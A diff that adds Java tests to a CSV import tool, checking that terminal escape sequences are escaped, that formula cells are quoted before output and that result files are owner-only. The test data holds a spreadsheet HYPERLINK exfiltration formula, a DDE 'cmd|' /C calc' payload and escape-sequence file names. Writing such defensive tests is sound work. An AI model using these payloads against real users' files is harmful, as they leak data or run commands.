@@ -6,6 +6,7 @@ import static com.huiyi31.cli.imports.ImportFiles.journalEvents;
 import static com.huiyi31.cli.imports.ImportFiles.results;
 import static com.huiyi31.cli.imports.ImportFiles.write;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import com.huiyi31.cli.Cli;
 import java.io.IOException;
@@ -13,6 +14,8 @@ import java.net.ServerSocket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
+import java.nio.file.attribute.PosixFilePermissions;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Collectors;
@@ -312,6 +315,177 @@ class ImportCommandTest {
     assertThat(journal).contains("REGISTERED", "REFUSED");
     assertThat(journal).doesNotContain("张晓明", "13912345678", "zhang@example.com", "秘密公司", "李四", "13987654321",
         "li@example.com", "另一家");
+  }
+
+  @Test
+  void thePlatformsTextReachesTheTerminalAndTheResultsEscapedWithItsMobilesMasked() throws IOException {
+    String name = "guests\u001b]0;pwned\u0007"; // a file name is anyone's text too
+    Path csv = write(dir, name + ".csv", "FullName,Mobile\nhostile-1,13912345678\nok-2,13900000002\n");
+
+    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(result.exitCode()).as(result.toString()).isEqualTo(3);
+    assertThat(result.out() + result.err()).doesNotContain("\u001b", "\u0007", "\u009b", "\u202e", "13912345678")
+        .contains("guests\\x1b]0;pwned\\x07.result.csv", "--retry-refused): line 2.");
+    String error = results(dir.resolve(name + ".result.csv")).get("hostile-1").get("error");
+    assertThat(error).contains("businessCode 1001", "手机号139****5678已被张晓明注册\\x9b31m\\u202e")
+        .doesNotContain("\u001b", "\u0007", "\u009b", "\u202e", "13912345678");
+
+    Path columns = write(dir, "columns.csv", "FullName,\"x\u001b[2J\",\"X\u001b[2J\"\nok-3,1,2\n");
+    Cli.Result twice = Cli.run(args(columns, platform.baseUrl()));
+    assertThat(twice.exitCode()).isEqualTo(2);
+    assertThat(twice.err()).contains("both named \"X\\x1b[2J\"").doesNotContain("\u001b");
+  }
+
+  @Test
+  void cellsASpreadsheetWouldRunAsFormulasStartWithAQuoteUnlessRawCellsAreAskedFor() throws IOException {
+    String leak = "=HYPERLINK(\"http://x/?leak=\"&B2,\"formula-1\")";
+    Path csv = write(dir, "formulas.csv", "FullName,Mobile,Company,Position\n"
+        + "\"" + leak.replace("\"", "\"\"") + "\",13900000001,\" @cmd\",-5\n"
+        + "formula-2,+86 139-1234-5679,\"\tx\",＝1+1\n");
+
+    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
+    Map<String, Map<String, String>> rows = results(dir.resolve("formulas.result.csv"));
+    assertThat(rows.keySet()).containsExactly("'" + leak, "formula-2");
+    assertThat(rows.get("'" + leak)).containsEntry("Company", "' @cmd").containsEntry("Position", "-5") // a number is kept
+        .containsEntry("orderNo", "'=1+2").containsEntry("attendeeId", "'@SUM(1)")
+        .containsEntry("checkinCode", "'-2+3+cmd|' /C calc'!A0");
+    assertThat(rows.get("formula-2")).containsEntry("Mobile", "+86 139-1234-5679").containsEntry("Company", "'\tx")
+        .containsEntry("Position", "'＝1+1");
+    assertThat(platform.received()).containsOnlyKeys(leak, "formula-2"); // what was sent is the file's
+
+    Cli.Result raw = Cli.run(args(csv, platform.baseUrl(), "--raw-csv"));
+
+    assertThat(raw.exitCode()).as(raw.toString()).isEqualTo(0);
+    Map<String, Map<String, String>> rawRows = results(dir.resolve("formulas.result.csv"));
+    assertThat(rawRows.get(leak)).containsEntry("Company", " @cmd").containsEntry("orderNo", "=1+2")
+        .containsEntry("attendeeId", "@SUM(1)").containsEntry("checkinCode", "-2+3+cmd|' /C calc'!A0");
+    assertThat(rawRows.get("formula-2")).containsEntry("Company", "\tx").containsEntry("Position", "＝1+1");
+  }
+
+  @Test
+  void theJournalAndTheResultsAreTheirOwnersAlone() throws IOException {
+    assumeTrue(dir.getFileSystem().supportedFileAttributeViews().contains("posix"), "file permissions are POSIX ones");
+    Path csv = attendees(dir, "owner.csv", "owner", 2);
+    Path journal = dir.resolve("owner.csv.journal");
+    Path result = dir.resolve("owner.result.csv");
+
+    Cli.Result first = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(first.exitCode()).as(first.toString()).isEqualTo(0);
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(journal))).isEqualTo("rw-------");
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(result))).isEqualTo("rw-------");
+
+    // A journal an earlier version left readable by everyone is made its owner's alone when continued.
+    Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-r--r--"));
+    Files.setPosixFilePermissions(result, PosixFilePermissions.fromString("rw-r--r--"));
+    Cli.Result again = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(again.exitCode()).as(again.toString()).isEqualTo(0);
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(journal))).isEqualTo("rw-------");
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(result))).isEqualTo("rw-------");
+  }
+
+  @Test
+  void theJournalKeepsNoTextOfThePlatformsOrAServersButItsCodes() throws IOException {
+    Path csv = write(dir, "texts.csv", "FullName,Mobile\nhostile-1,13900000001\ngateway-2,13900000002\nbusy-3,13900000003\n");
+    Path journal = dir.resolve("texts.csv.journal");
+
+    Cli.Result first = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(first.exitCode()).as(first.toString()).isEqualTo(3);
+    assertThat(Files.readString(journal)).contains("businessCode=1001", "httpStatus=502", "httpStatus=429")
+        .doesNotContain("手机号", "张晓明", "139****5678", "13912345678", "\u001b", "系统繁忙", "html", "POST /op");
+    Map<String, Map<String, String>> rows = results(dir.resolve("texts.result.csv"));
+    assertThat(rows.get("hostile-1").get("error")).contains("手机号139****5678已被张晓明注册"); // the run's own results have it
+    assertThat(rows.get("gateway-2").get("error")).contains("HTTP 502", "系统繁忙", "139****5678");
+
+    Cli.Result again = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(again.exitCode()).as(again.toString()).isEqualTo(3);
+    Map<String, Map<String, String>> reported = results(dir.resolve("texts.result.csv"));
+    assertThat(reported.get("hostile-1")).containsEntry("status", "REFUSED");
+    assertThat(reported.get("hostile-1").get("error")).contains("businessCode 1001", "--retry-refused").doesNotContain("张晓明");
+    assertThat(reported.get("gateway-2")).containsEntry("status", "UNKNOWN");
+    assertThat(reported.get("gateway-2").get("error")).contains("HTTP 502", "--resend-unknown").doesNotContain("系统繁忙");
+    assertThat(Files.readString(journal)).doesNotContain("张晓明", "系统繁忙", "139****5678");
+  }
+
+  @Test
+  void aJournalOfTheEarlierFormatIsContinuedWithItsUnkeyedHashes() throws IOException {
+    Path csv = write(dir, "legacy.csv", "FullName,Mobile\nlegacy-1,13900000001\nrefuse-2,13900000002\nlegacy-3,13900000003\n");
+    List<String> columns = List.of("FullName", "Mobile");
+    String line2 = CsvInput.hash(columns, List.of("legacy-1", "13900000001"));
+    String line3 = CsvInput.hash(columns, List.of("refuse-2", "13900000002"));
+    Path journal = write(dir, "legacy.csv.journal", "# huiyi31 import journal, format 1. Append-only: do not edit.\n"
+        + "2025-05-01T08:00:00.120Z\tJOURNAL\tevent=" + ImportFiles.EVENT + "\ttype=" + ImportFiles.TYPE + "\n"
+        + "2025-05-01T08:00:00.125Z\tRUN\tpid=4242\tconcurrency=4\trate=none\tretryRefused=false\tresendUnknown=false\n"
+        + "2025-05-01T08:00:00.130Z\tSENDING\t2\t" + line2 + "\n"
+        + "2025-05-01T08:00:00.190Z\tREGISTERED\t2\t" + line2 + "\torderNo=order-legacy-1\tattendeeId=a-1\tcheckinCode=1\n"
+        + "2025-05-01T08:00:00.200Z\tSENDING\t3\t" + line3 + "\n"
+        + "2025-05-01T08:00:00.210Z\tREFUSED\t3\t" + line3 + "\tbusinessCode=1001\tmessage=POST /op/notoken/api/Attendee/v1/"
+        + "Register was refused by the platform: businessCode 1001 (手机号已被注册).\n");
+
+    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(result.exitCode()).as(result.toString()).isEqualTo(3); // line 3 stays refused
+    assertThat(platform.received()).containsOnly(Map.entry("legacy-3", 1));
+    assertThat(result.err()).contains("written by an earlier version of huiyi31 (format 1)", "Delete it once this import");
+    Map<String, Map<String, String>> rows = results(dir.resolve("legacy.result.csv"));
+    assertThat(rows.get("legacy-1")).containsEntry("status", "REGISTERED").containsEntry("orderNo", "order-legacy-1");
+    assertThat(rows.get("refuse-2")).containsEntry("status", "REFUSED");
+    assertThat(rows.get("refuse-2").get("error")).contains("(手机号已被注册)", "--retry-refused");
+    assertThat(rows.get("legacy-3")).containsEntry("status", "REGISTERED").containsEntry("orderNo", "order-legacy-3");
+    assertThat(Files.readString(journal)).doesNotContain("format=2");
+    assertThat(journalEvents(journal)).anyMatch(event -> event[1].equals("REGISTERED") && event[2].equals("4")
+        && event[3].equals(CsvInput.hash(columns, List.of("legacy-3", "13900000003"))));
+    assertThat(RowKeys.keyFile(journal)).doesNotExist();
+
+    write(dir, "legacy.csv", Files.readString(csv).replace("legacy-1,13900000001", "legacy-1,13900000009"));
+    Cli.Result edited = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(edited.exitCode()).as(edited.toString()).isEqualTo(2);
+    assertThat(edited.err()).contains("line 2 (REGISTERED) has different content");
+  }
+
+  @Test
+  void aJournalIsContinuedOnlyWithItsOwnKeyFile() throws IOException {
+    Path csv = attendees(dir, "keyed.csv", "keyed", 2);
+    Path journal = dir.resolve("keyed.csv.journal");
+    assertThat(Cli.run(args(csv, platform.baseUrl())).exitCode()).isEqualTo(0);
+    Path key = RowKeys.keyFile(journal);
+    assertThat(key).hasFileName("keyed.csv.journal.key").exists();
+    if (dir.getFileSystem().supportedFileAttributeViews().contains("posix")) {
+      assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key))).isEqualTo("rw-------");
+    }
+    assertThat(Cli.run(args(attendees(dir, "other.csv", "other", 1), platform.baseUrl())).exitCode()).isEqualTo(0);
+    write(dir, "keyed.csv", Files.readString(csv) + "keyed-003,13900000003,ACME\n");
+    platform.resetCounts();
+
+    Files.copy(dir.resolve("other.csv.journal.key"), key, StandardCopyOption.REPLACE_EXISTING);
+    Cli.Result wrong = Cli.run(args(csv, platform.baseUrl()));
+    Files.delete(key);
+    Cli.Result missing = Cli.run(args(csv, platform.baseUrl()));
+    Cli.Result dryRun = Cli.run(args(csv, platform.baseUrl(), "--dry-run"));
+
+    assertThat(wrong.exitCode()).as(wrong.toString()).isEqualTo(2);
+    assertThat(wrong.err()).contains("is not the key of the journal");
+    for (Cli.Result refused : List.of(missing, dryRun)) {
+      assertThat(refused.exitCode()).as(refused.toString()).isEqualTo(2);
+      assertThat(refused.err()).contains("needs its key file", "which is missing", "Nothing was sent");
+    }
+    assertThat(platform.requests()).isZero();
+  }
+
+  @Test
+  void helpSaysHowTheFilesAreProtected() {
+    Cli.Result help = Cli.run("import", "--help");
+
+    assertThat(help.exitCode()).isZero();
+    assertThat(help.out().replaceAll("\\s+", " "))
+        .contains("FILE.journal.key", "owner-only", "safe to open in a spreadsheet", "--raw-csv", "its name + .key");
   }
 
   @Test
